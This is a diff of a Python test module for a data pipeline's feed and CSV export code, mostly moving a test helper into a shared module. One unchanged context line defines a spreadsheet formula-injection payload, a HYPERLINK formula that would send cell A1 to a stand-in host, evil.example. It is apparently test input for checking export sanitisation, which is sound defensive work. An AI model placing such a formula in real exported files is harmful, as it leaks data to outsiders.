@@ -6,7 +6,7 @@ import csv
 import datetime as dt
 import io
 import json
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -21,6 +21,7 @@ from pipelines.load.kairos_feed import write_kairos
 from pipelines.load.published import iter_published
 from pipelines.load.sites_feed import csv_columns, feed_schema, write_sites
 from pipelines.transform.bundle import ActionBundle
+from tests.load.contexts import release
 
 TODAY = dt.date(2025, 6, 1)
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
@@ -31,24 +32,6 @@ def reader(published: Engine) -> Iterator[orm.Session]:
     """A read session on the published store, open for the whole test."""
     with open_session(published) as db:
         yield db
-
-
-def release(
-    folder: Path,
-    engine: Engine,
-    db: orm.Session,
-    offer: Callable[[], Iterator[ActionBundle]] | None = None,
-) -> ReleaseContext:
-    return ReleaseContext(
-        run_id="test",
-        export_date=TODAY,
-        generated_at=dt.datetime(2025, 6, 1, 2, tzinfo=dt.UTC),
-        folder=folder,
-        previous=None,
-        offer=offer or (lambda: iter_published(db)),
-        session=lambda: open_session(engine),
-        today=TODAY,
-    )
 
 
 def validator(name: str) -> Draft202012Validator:
